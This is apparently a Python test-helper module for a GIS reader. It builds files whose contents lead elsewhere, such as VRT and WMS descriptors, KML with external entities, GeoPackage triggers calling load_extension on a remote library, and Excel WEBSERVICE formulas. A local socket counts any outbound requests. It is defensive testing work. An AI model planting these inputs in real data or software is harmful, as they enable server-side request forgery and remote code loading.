"""Files that lead elsewhere, and a socket on this computer that counts who follows."""

from __future__ import annotations

import json
import socket
import sqlite3
import threading
import warnings
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pyogrio
import rasterio
import shapely
from pyproj import CRS

from bigmap.base.errors import UserError
from bigmap.base.problems import ProblemLog
from bigmap.io.rasters.geotiff import GeoTiff
from bigmap.io.reading.folder import read_folder
from bigmap.io.reading.folder_survey import survey_folder
from bigmap.io.spreadsheets.table_head import read_sheets
from tests.helpers.shapefiles import squares, write_layer

Maker = Callable[[Path, str], None]
"""Writes a file that leads to an address."""

LAYER_ENDINGS = (
    *(".gpkg", ".geojson", ".json", ".geojsonl", ".kml", ".kmz", ".dxf", ".tab", ".mif", ".gdb", ".shp"),
    *(".fgb", ".parquet", ".csv"),
)
PICTURE_ENDINGS = (".tif", ".jpg", ".png", ".img")


@contextmanager
def listening() -> Iterator[tuple[str, list[bytes]]]:
    """Give an address on this computer, and the list of the first lines of what is asked of it."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0), backlog=64) as server:
        thread = threading.Thread(target=_answer, args=(server, asked), daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}/", asked
        server.shutdown(socket.SHUT_RDWR)
        thread.join(timeout=5)


def _answer(server: socket.socket, asked: list[bytes]) -> None:
    while True:
        try:
            caller, _ = server.accept()
        except OSError:
            return
        with caller:
            caller.settimeout(2)
            try:
                asked.append(caller.recv(400).split(b"\r\n")[0])
                caller.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                asked.append(b"?")


SERVICES = {
    "OGR VRT": '<OGRVRTDataSource><OGRVRTLayer name="estates"><SrcDataSource>/vsicurl/{url}a.shp'
    "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
    "WFS": "<OGRWFSDataSource><URL>{url}wfs</URL></OGRWFSDataSource>",
    "WMS": '<GDAL_WMS><Service name="TMS"><ServerUrl>{url}${{z}}/${{x}}/${{y}}.png</ServerUrl></Service>'
    "<DataWindow><UpperLeftX>0</UpperLeftX><UpperLeftY>0</UpperLeftY><LowerRightX>1</LowerRightX>"
    "<LowerRightY>1</LowerRightY><TileLevel>1</TileLevel></DataWindow><BlockSizeX>256</BlockSizeX>"
    "<BlockSizeY>256</BlockSizeY></GDAL_WMS>",
    "WMTS": "<GDAL_WMTS><GetCapabilitiesUrl>{url}wmts</GetCapabilitiesUrl></GDAL_WMTS>",
    "WCS": "<WCS_GDAL><ServiceURL>{url}wcs?</ServiceURL><CoverageName>a</CoverageName></WCS_GDAL>",
    "OGC API": "<OGCAPI><URL>{url}oapi</URL></OGCAPI>",
    "GDALG": '{{"type": "gdal_streamed_alg", "command_line": "gdal vector read /vsicurl/{url}a.geojson"}}',
    "raster VRT": '<VRTDataset rasterXSize="9" rasterYSize="9"><GeoTransform>118,.1,0,24,0,-.1</GeoTransform>'
    '<VRTRasterBand dataType="Byte" band="1"><SimpleSource><SourceFilename>/vsicurl/{url}a.tif'
    "</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>",
    "STAC": '{{"type": "Collection", "links": [{{"rel": "items", "href": "{url}items"}}],'
    ' "stac_version": "1.0.0"}}',
}


def service(text: str) -> Maker:
    """Return what writes one of `SERVICES`."""
    return lambda path, url: path.write_text(text.format(url=url), encoding="utf-8")  # type: ignore[return-value]


def _features() -> list[dict[str, object]]:
    lonlat = gpd.GeoSeries(squares(2), crs=4548).to_crs(4326)
    shapes = [shapely.geometry.mapping(shape) for shape in lonlat]
    return [{"type": "Feature", "properties": {"name": "甲"}, "geometry": shape} for shape in shapes]


def linked_crs(path: Path, url: str) -> None:
    """Write a GeoJSON whose coordinate system is a link."""
    crs = {"type": "link", "properties": {"href": f"{url}crs", "type": "ogcwkt"}}
    text = {"type": "FeatureCollection", "crs": crs, "features": _features()}
    path.write_text(json.dumps(text), encoding="utf-8")


def named_crs(path: Path, url: str) -> None:
    """Write a GeoJSON whose coordinate system is named by an address."""
    crs = {"type": "name", "properties": {"name": f"{url}crs"}}
    text = {"type": "FeatureCollection", "crs": crs, "features": _features()}
    path.write_text(json.dumps(text), encoding="utf-8")


_PLACE = (
    "<Placemark><name>甲</name><Polygon><outerBoundaryIs><LinearRing><coordinates>118.09,24.47 118.10,24.47"
    " 118.10,24.48 118.09,24.47</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>"
)


def kml_links(path: Path, url: str) -> None:
    """Write a KML with a link to the network, a picture, a style and a schema elsewhere."""
    path.write_text(
        f'<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"'
        f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{url} {url}a.xsd">'
        f"<Document><NetworkLink><Link><href>{url}a.kml</href></Link></NetworkLink><GroundOverlay><Icon>"
        f"<href>{url}a.png</href></Icon></GroundOverlay><styleUrl>{url}a.kml#s</styleUrl>{_PLACE}"
        "</Document></kml>",
        encoding="utf-8",
    )


def kml_entity(path: Path, url: str) -> None:
    """Write a KML with entities and a document type elsewhere."""
    named = _PLACE.replace("甲", "&a;")
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE kml SYSTEM "{url}a.dtd" [<!ENTITY a SYSTEM "{url}a.txt">]>'
        f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{named}</Document></kml>',
        encoding="utf-8",
    )


def packed_kml(path: Path, url: str) -> None:
    """Write a KMZ with such a KML."""
    inner = path.with_suffix(".inner")
    kml_links(inner, url)
    with zipfile.ZipFile(path, "w") as packed:
        packed.write(inner, "doc.kml")
    inner.unlink()


def beside_shapefile(suffix: str) -> Maker:
    """Return what writes a shapefile with an address as the text of one of its parts."""

    def write(path: Path, url: str) -> None:
        write_layer(path, squares(2), {"name": ["甲", "乙"]})
        path.with_suffix(suffix).write_text(f"{url}a{suffix}", encoding="ascii")

    return write


def database(sql: str) -> Maker:
    """Return what writes a GeoPackage and runs a statement on it."""

    def write(path: Path, url: str) -> None:
        frame = gpd.GeoDataFrame({"name": ["甲", "乙"]}, geometry=squares(2), crs=4548)
        pyogrio.write_dataframe(frame, path, layer="estates")
        with closing(sqlite3.connect(path)) as base, base:
            base.executescript(sql.format(url=url))

    return write


_VIEW = (
    "CREATE VIEW seen AS SELECT fid, geom, {{what}} AS name FROM estates;"
    "INSERT INTO gpkg_contents SELECT 'seen', data_type, 'seen', description, last_change, min_x, min_y,"
    " max_x, max_y, srs_id FROM gpkg_contents WHERE table_name = 'estates';"
    "INSERT INTO gpkg_geometry_columns SELECT 'seen', column_name, geometry_type_name, srs_id, z, m"
    " FROM gpkg_geometry_columns WHERE table_name = 'estates';"
)


def view(what: str) -> Maker:
    """Return what writes a GeoPackage with a layer that is computed as it is read."""
    return database(_VIEW.replace("{{what}}", what))


def linked_workbook(path: Path, url: str) -> None:
    """Write a workbook with a link to another one and a picture elsewhere."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["小区名称", "户数"])
    sheet.append(["甲", f"='{url}[a.xlsx]Sheet1'!A1"])
    sheet.append([f'=HYPERLINK("{url}a")', f'=WEBSERVICE("{url}b")'])
    sheet["A3"].hyperlink = f"{url}c"
    book.save(path)


def leading_zip(path: Path, url: str) -> None:
    """Write an archive whose files bear names of GDAL's."""
    with zipfile.ZipFile(path, "w") as packed:
        for name in (f"vsicurl/{url}estates.geojson", "estates.vrt", "estates.geojson"):
            packed.writestr(name, SERVICES["OGR VRT"].format(url=url))


def seamless(path: Path, url: str) -> None:
    """Write a MapInfo table whose parts lie elsewhere."""
    path.write_text(
        f'!table\n!version 300\n!charset Neutral\nDefinition Table\n  File "/vsicurl/{url}a.dat"\n'
        '  Type NATIVE Charset "Neutral"\n  Fields 1\n    name Char (9) ;\n',
        encoding="ascii",
    )
    for part in (".dat", ".map", ".id"):
        path.with_suffix(part).write_bytes(bytes(64))


def parquet_crs(path: Path, url: str) -> None:
    """Write a GeoParquet whose coordinate system is an address."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    about = {"version": "1.0.0", "primary_column": "geometry"}
    about["columns"] = {"geometry": {"encoding": "WKB", "geometry_types": [], "crs": f"{url}crs"}}  # type: ignore[assignment]
    table = pa.table({"name": ["甲", "乙"], "geometry": [shape.wkb for shape in squares(2)]})
    pq.write_table(table.replace_schema_metadata({"geo": json.dumps(about)}), path)


def picture_beside(suffix: str, text: str) -> Maker:
    """Return what writes a GeoTIFF with a file beside it that GDAL opens along."""

    def write(path: Path, url: str) -> None:
        profile = {"driver": "GTiff", "count": 1, "height": 9, "width": 9, "dtype": "uint8"}
        with rasterio.open(
            path, "w", **profile, crs="EPSG:4326", transform=rasterio.Affine(0.1, 0, 118, 0, -0.1, 24)
        ) as file:
            file.write(np.ones((1, 9, 9), dtype=np.uint8))
        path.with_name(f"{path.name}{suffix}").write_text(text.format(url=url), encoding="ascii")

    return write


_OVERVIEW = (
    '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">/vsicurl/{url}a.ovr</MDI></Metadata>'
    "</PAMDataset>"
)


def trials() -> dict[str, tuple[str, Maker]]:
    """Return the trials: what it is → name of the file, what writes it."""
    out: dict[str, tuple[str, Maker]] = {}
    for kind, text in SERVICES.items():
        for ending in (*LAYER_ENDINGS, *PICTURE_ENDINGS):
            out[f"{kind} named {ending}"] = (f"estates{ending}", service(text))
    for ending in (".geojson", ".json", ".geojsonl", ".gpkg", ".dxf", ".tab", ".kml", ".fgb"):
        out[f"GeoJSON with a linked crs, named {ending}"] = (f"estates{ending}", linked_crs)
    out["GeoJSON with a crs named by an address"] = ("estates.geojson", named_crs)
    out["KML: NetworkLink, Icon, style, schema"] = ("estates.kml", kml_links)
    out["KML: document type and entity"] = ("estates.kml", kml_entity)
    out["KMZ: NetworkLink, Icon, style, schema"] = ("estates.kmz", packed_kml)
    for suffix in (".prj", ".qpj", ".cpg", ".qix"):
        out[f"address as {suffix}"] = ("estates.shp", beside_shapefile(suffix))
    out["GeoPackage: view that asks a geocoder"] = ("estates.gpkg", view("ogr_geocode('{url}', 'geometry')"))
    out["GeoPackage: view that loads a program"] = ("estates.gpkg", view("load_extension('{url}a.so')"))
    out["GeoPackage: view that loads layers"] = (
        "estates.gpkg",
        view("ogr_datasource_load_layers('/vsicurl/{url}a.geojson')"),
    )
    out["GeoPackage: system defined by an address"] = (
        "estates.gpkg",
        database("UPDATE gpkg_spatial_ref_sys SET definition = '{url}crs', organization = 'x'"),
    )
    out["GeoPackage: trigger that loads a program"] = (
        "estates.gpkg",
        database("CREATE TRIGGER t AFTER UPDATE ON estates BEGIN SELECT load_extension('{url}a.so'); END;"),
    )
    out["Excel: links to other workbooks and services"] = ("estates.xlsx", linked_workbook)
    out["archive with names of GDAL's"] = ("estates.zip", leading_zip)
    out["MapInfo table with its parts elsewhere"] = ("estates.tab", seamless)
    out["GeoParquet with a crs that is an address"] = ("estates.parquet", parquet_crs)
    for suffix in (".ovr", ".msk"):
        out[f"raster VRT as {suffix} of a picture"] = (
            "estates.tif",
            picture_beside(suffix, SERVICES["raster VRT"]),
        )
    out["overviews elsewhere, by .aux.xml of a picture"] = (
        "estates.tif",
        picture_beside(".aux.xml", _OVERVIEW),
    )
    return out


def tried(path: Path) -> str:
    """Read a file in every way there is; return what was said in the end."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if path.suffix in PICTURE_ENDINGS:
            return _said(lambda: _looked_at(path))
        if path.suffix == ".xlsx":
            return _said(lambda: read_sheets(path, ProblemLog()))
        survey_folder([path.parent])
        return _said(lambda: read_folder(path.parent, crs=CRS.from_epsg(4548)))


def _looked_at(path: Path) -> None:
    picture = GeoTiff(path, CRS.from_epsg(4326))
    for z in range(picture.high + 1):
        picture.tile(z, int(2**z * (118.4 + 180) / 360), 2**z // 2 - 1)
    picture.close()


def _said(read: Callable[[], object]) -> str:
    try:
        found = read()
    except UserError as refused:
        return refused.text.render("en")
    told = [problem.text.render("en") for problem in getattr(found, "problems", ())]
    return " ".join(["read", *told])
